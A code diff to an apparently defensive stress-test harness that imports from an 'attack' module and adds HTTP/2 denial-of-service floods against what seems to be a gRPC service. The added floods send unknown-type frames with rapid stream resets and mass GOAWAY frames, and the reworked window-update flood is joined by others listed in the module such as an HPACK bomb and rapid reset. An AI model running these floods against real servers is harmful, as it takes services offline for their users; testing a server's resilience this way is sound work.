@@ -6,13 +6,30 @@ import struct
 import time
 
 from attack import (
-    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, HELLO, MIB, PING, PREFACE, RST_STREAM, SERVICE,
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, HELLO, MIB, PING, PREFACE, RST_STREAM, SERVICE,
     WINDOW_UPDATE, Windows, field, frame, hpack_length, message_prefix, open_call, request_block, settings)
 
 
 def window_updates_past_2_gib(attack):
-    update = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
-    attack.flood(HELLO + open_call("Accumulate"), frame(0x77, 0, 0, update) * 80_000)
+    attack.flood(HELLO + open_call("Accumulate"), frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 80_000)
+
+
+def unknown_frames_past_2_gib(attack):
+    """Frames of an unknown type, which every peer has to ignore, with as many calls as allow them."""
+    block, ignored = request_block(SERVICE + "Accumulate"), frame(0x77, 0, 0, bytes(2000)) * 60
+    while attack.goes_on():
+        with contextlib.suppress(OSError), attack.open(HELLO) as connection:
+            stream = 1
+            while attack.goes_on() and stream < 1 << 30:
+                connection.sendall(b"".join(
+                    frame(HEADERS, END_HEADERS, s, block) + ignored + frame(RST_STREAM, 0, s, struct.pack(">I", 8))
+                    for s in range(stream, stream + 20, 2)))
+                stream += 20
+        time.sleep(0.01)
+
+
+def goaway_flood(attack):
+    attack.flood(HELLO, frame(GOAWAY, 0, 0, bytes(8)) * 60_000)
 
 
 def empty_data_past_2_gib(attack):
@@ -127,7 +144,7 @@ def bad_base64_headers(attack):
 
 
 FLOODS = (
-    window_updates_past_2_gib, empty_data_past_2_gib, continuation_without_end, headers_over_many_frames,
+    window_updates_past_2_gib, unknown_frames_past_2_gib, empty_data_past_2_gib, continuation_without_end, headers_over_many_frames,
     hpack_length_without_end, hpack_string_too_long, hpack_bomb, streams_without_acknowledgement,
-    one_byte_data_frames, rapid_reset, ping_flood, settings_flood, bad_base64_headers,
+    one_byte_data_frames, rapid_reset, ping_flood, settings_flood, goaway_flood, bad_base64_headers,
     garbage)
